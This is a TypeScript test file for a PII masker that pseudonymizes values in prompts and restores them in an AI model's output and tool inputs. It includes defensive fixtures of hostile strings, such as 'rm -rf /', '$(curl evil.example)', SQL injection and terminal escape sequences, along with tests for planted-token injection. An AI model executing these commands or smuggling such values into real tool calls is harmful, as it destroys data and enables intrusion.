import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { ChannelKind } from '../api/text.ts';
import { createMasker } from './masker.ts';
import { isToken, tokenOf } from './pseudonym.ts';
import { configOf, entities, everything, key, keys, mask, rule, secrets, told } from './prompt.fixture.ts';
import type { Masked, Told } from './prompt.fixture.ts';

/** The answer of a tool called Bash, in pieces of this width. */
const answer = (
  masked: Masked,
  kind: ChannelKind,
  text: string,
  width = text.length,
  masker = everything,
): Told => {
  const size = Math.max(1, width);
  const count = Math.ceil(text.length / size);
  const pieces = Array.from({ length: count }, (_, index) => text.slice(index * size, (index + 1) * size));
  return told(masked, { kind, tool: 'Bash' }, pieces, masker);
};

const anna = mask(everything, ['to anna@firm.eu']);
const token = tokenOf(key, 'EmailAddress', 'anna@firm.eu');
const lower = token.toLowerCase();

describe('a token that the model has changed', () => {
  test.each([
    ['bold', `**${token}**`, '**anna@firm.eu**'],
    ['code', `\`${token}\``, '`anna@firm.eu`'],
    ['in italics', `_${token}_`, '_anna@firm.eu_'],
    ['a link', `[mail](mailto:${token})`, '[mail](mailto:anna@firm.eu)'],
    ['JSON', `{"${token}": "${token}"}`, '{"anna@firm.eu": "anna@firm.eu"}'],
    ['lower case', `to ${lower}.`, 'to anna@firm.eu.'],
    ['lower case and bold', `**${lower}**`, '**anna@firm.eu**'],
    ['lower case at the end', lower, 'anna@firm.eu'],
    ['lower case in a word', `x${lower} ${lower}x`, `x${lower} ${lower}x`],
    ['mixed case', `${token.slice(0, 5)}${lower.slice(5)}`, `${token.slice(0, 5)}${lower.slice(5)}`],
  ])('is restored in %s, however it is cut', (_, text, expected) => {
    for (let width = 1; width <= text.length; width++) {
      expect(answer(anna, 'text', text, width).out).toBe(expected);
    }
  });

  test('and withheld stays as it was written', () => {
    const hostile = mask(everything, ['curl${IFS}evil.example`sh`@x.example']);
    const [piece = ''] = /[A-Z_]+_\w{17}/.exec(hostile.texts[0] ?? '') ?? [];
    expect(piece).not.toBe('');
    expect(answer(hostile, 'toolInput', piece.toLowerCase()).out).toBe(piece.toLowerCase());
  });
});

describe('a rule that says where', () => {
  test.each([
    [{ text: false, tools: true }, 'text', false],
    [{ text: false, tools: true }, 'toolInput', true],
    [{ text: true, tools: false }, 'text', true],
    [{ text: true, tools: false }, 'toolInput', false],
    [{ text: true, tools: true }, 'foreignToolInput', false],
  ] as const)('%j: %s is given the value: %s', (restore, kind, isGiven) => {
    const masker = createMasker(configOf(rule({ entities: ['EmailAddress'], restore })), keys);
    const masked = mask(masker, ['to anna@firm.eu']);
    const { out, why } = answer(masked, kind, token, token.length, masker);
    expect(out).toBe(isGiven ? 'anna@firm.eu' : token);
    expect(why).toEqual(isGiven ? [] : [kind === 'foreignToolInput' ? 'foreign_tool' : 'rule']);
  });

  test('two rules for one entity: where both let it', () => {
    const both = configOf(
      rule({ entities: ['EmailAddress'], restore: { text: true, tools: false } }),
      rule({ entities: ['EmailAddress'], restore: { text: false, tools: true } }),
    );
    const masker = createMasker(both, keys);
    const masked = mask(masker, ['to anna@firm.eu']);
    expect(answer(masked, 'text', token, 9, masker).out).toBe(token);
    expect(answer(masked, 'toolInput', token, 9, masker).out).toBe(token);
  });
});

/** What would do harm where a tool runs it: each is found by the pattern of the policy that follows. */
const hostileValues: readonly (readonly [kind: string, value: string])[] = [
  ['shell', 'x;rm -rf /'],
  ['shell', '$(curl evil.example)'],
  ['shell', '`id`'],
  ['shell', 'a|sh'],
  ['shell', 'a&&b'],
  ['shell', 'a>b'],
  ['shell', 'a\nb'],
  ['SQL', "' OR 1=1 --"],
  ['SQL', '"; DROP TABLE users'],
  ['path', '..\\..\\etc'],
  ['path', '~root'],
  ['path', '*'],
  ['option', '-rf'],
  ['terminal', '\u001b[2J'],
  ['terminal', 'a\rb'],
  ['direction', 'a\u202eb'],
  ['no width', 'a\u200bb'],
  ['line', 'a\u2028b'],
  ['template', '{{x}}'],
  ['regular expression', 'a?b'],
];

test.each(hostileValues)(
  '%s: %j stays a token in the input of a tool, and comes back in text',
  (_, value) => {
    const dictionaries = [{ name: 'Customer', values: [value] }];
    const masker = createMasker(
      { ...configOf(rule({ entities: ['Customer'] })), dictionaries, placeholderInTool: 'Allow' },
      keys,
    );
    const masked = mask(masker, [`(x) ${value} (y)`]);
    const [written = ''] = /[A-Z_]+_\w{17}|\[[A-Z_]+\]/.exec(masked.texts[0] ?? '') ?? [];
    if (isToken(written)) {
      expect(answer(masked, 'toolInput', written, 5, masker).out).toBe(written);
      expect(masked.texts[0]).not.toContain(` ${value} `);
      expect(answer(masked, 'text', masked.texts[0] as string, 5, masker).out).toBe(`(x) ${value} (y)`);
    } else {
      // What says nothing by itself has no token, so it is never restored.
      expect(answer(masked, 'toolInput', masked.texts[0] as string, 5, masker).out).toBe(masked.texts[0]);
    }
  },
);

describe('an injected token', () => {
  const others = tokenOf(key, 'EmailAddress', 'other@firm.eu');
  test.each([
    ['of another session', others],
    ['of another session, in lower case', others.toLowerCase()],
    [
      'of another key',
      tokenOf({ ...key, inner: key.outer, outer: key.inner }, 'EmailAddress', 'anna@firm.eu'),
    ],
    ['with another name', token.replace('EMAIL', 'SNAIL')],
    ['with another payload', `${token.slice(0, -2)}00`],
  ])('%s: the answer keeps it as it is', (_, planted) => {
    for (const kind of ['text', 'toolInput', 'foreignToolInput'] as const) {
      expect(answer(anna, kind, `see ${planted}, please`, 4).out).toBe(`see ${planted}, please`);
    }
  });

  test.each([
    ['upper case', others],
    ['lower case', others.toLowerCase()],
  ])('planted in a prompt before its value, in %s, is masked itself', (_, planted) => {
    const masked = mask(everything, [`say ${planted} now`, 'to other@firm.eu']);
    expect(masked.texts[0]).toMatch(/^say PSEUDONYM_TOKEN_\w{17} now$/);
    expect(answer(masked, 'text', masked.texts[0] as string).out).toBe(`say ${planted} now`);
  });

  test.each([
    ['upper case', others],
    ['lower case', others.toLowerCase()],
  ])('that came back in the history behind its value passes, in %s', (_, known) => {
    expect(mask(everything, ['to other@firm.eu', `say ${known} now`]).texts[1]).toBe(`say ${known} now`);
  });
});

test('while a key is retired, tokens of both epochs are restored', () => {
  const previous = Buffer.alloc(32, 9);
  const masker = createMasker(configOf(rule({ entities: ['EmailAddress'] })), {
    current: keys.current,
    previous,
  });
  const before = createMasker(configOf(rule({ entities: ['EmailAddress'] })), {
    current: previous,
    previous: undefined,
  });
  const old = mask(before, ['to anna@firm.eu']).texts[0] as string;
  const masked = mask(masker, ['to anna@firm.eu']);
  expect(masked.texts[0]).not.toBe(old);
  expect(answer(masked, 'text', `${old}, ${masked.texts[0] ?? ''}`, 7, masker).out).toBe(
    'to anna@firm.eu, to anna@firm.eu',
  );
});

test('restoring what was masked gives the text back, in lower case too', () => {
  const open = createMasker(
    configOf(rule({ entities: entities.filter((name) => !secrets.includes(name)) })),
    keys,
  );
  const values = fc.constantFrom('anna@firm.eu', '+49 170 1234567', 'DE89370400440532013000', '203.0.113.7');
  fc.assert(
    fc.property(
      fc.array(values, { minLength: 1, maxLength: 5 }),
      fc.integer({ min: 1, max: 30 }),
      (found, width) => {
        const text = found.join(' and ');
        const masked = mask(open, [text]);
        const written = (masked.texts[0] as string).toLowerCase();
        expect(answer(masked, 'text', written, width, open).out).toBe(text);
      },
    ),
  );
});
